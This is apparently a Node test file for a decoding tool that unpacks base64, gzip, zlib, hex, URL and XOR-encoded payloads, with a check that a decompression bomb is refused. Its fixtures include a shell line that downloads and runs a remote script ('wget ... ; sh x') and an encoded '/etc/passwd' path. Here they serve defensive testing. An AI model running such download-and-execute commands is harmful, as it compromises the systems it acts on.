// The steps of the bench, without a browser: what they give, and that nothing unpacks without a bound.
import assert from "node:assert/strict";
import { test } from "node:test";
import { deflateSync, gzipSync } from "node:zlib";
import { MOST, Problem, asText, dump, step, toBytes } from "../assets/decode.js";
import { escapeForPeople } from "../assets/escape.js";

/** @param {string} text @param {import("../assets/decode.js").Operation[]} steps @param {string} [key] */
async function taken(text, steps, key = "") {
  let bytes = /** @type {Uint8Array} */ (toBytes(text));
  for (const operation of steps) bytes = await step(operation, bytes, key);
  return bytes;
}

test("what attackers wrap comes apart again", async () => {
  const script = "#!/bin/sh\nwget http://192.0.2.44/x; sh x\n";
  const packed = gzipSync(script).toString("base64");
  assert.equal(asText(await taken(packed, ["base64", "gzip"])), script);
  assert.equal(asText(await taken(deflateSync(script).toString("hex"), ["hex", "zlib"])), script);
  assert.equal(asText(await taken("%2fetc%2Fpasswd+x", ["url"])), "/etc/passwd x");
  assert.equal(asText(await taken("ZWNobyBoaQ", ["base64"])), "echo hi");
  assert.equal(asText(await taken("-_8", ["base64"])), asText(Uint8Array.of(0xfb, 0xff)));
  assert.equal(asText(await taken("dc ea fd", ["hex", "xor", "reverse"], "0x8b")), "vaW");
  assert.equal(asText(await taken("abc", ["xor", "xor"], "key")), "abc");
});

test("what this page writes of bytes becomes those bytes again", async () => {
  for (const text of ["\u001b[2J\u202e\u0007\\x41", "語\n\t\\", "\\\\n"]) {
    assert.equal(asText(await taken(escapeForPeople(text), ["escapes"])), text);
  }
});

test("what cannot be taken apart says why, and a bomb is not unpacked", async () => {
  for (const [text, operation, problem] of /** @type {const} */ ([["xyz", "hex", "hex"], ["abc", "hex", "hex"], ["#", "base64", "base64"], ["x", "gzip", "gzip"], ["x", "zlib", "zlib"], ["x", "xor", "key"]])) {
    await assert.rejects(taken(text, [operation]), (error) => error instanceof Problem && error.name === problem, `${operation} of ${text}`);
  }
  const bomb = gzipSync(Buffer.alloc(64 << 20)).toString("base64");
  await assert.rejects(taken(bomb, ["base64", "gzip"]), (error) => error instanceof Problem && error.name === "size");
});

test("a capture that was cut gives what there is", async () => {
  const noise = Array.from({ length: 60_000 }, (_, at) => ((at * 7_919) % 9_973).toString(36)).join(" ");
  const packed = gzipSync(noise).subarray(0, -9_000).toString("base64");
  const text = asText(await taken(packed, ["base64", "gzip"]), MOST);
  assert.ok(text.length > 1_000 && noise.startsWith(text.slice(0, 1_000)));
});

test("bytes are shown sixteen a line", () => {
  const shown = dump(Uint8Array.from({ length: 18 }, (_, at) => at + 60));
  assert.equal(shown.split("\n")[0], "000000  3c 3d 3e 3f 40 41 42 43 44 45 46 47 48 49 4a 4b  <=>?@ABCDEFGHIJK");
  assert.match(shown.split("\n")[1] ?? "", /^000010 {2}4c 4d {44}LM$/);
  assert.equal(dump(new Uint8Array(5_000)).split("\n").length, 128);
});
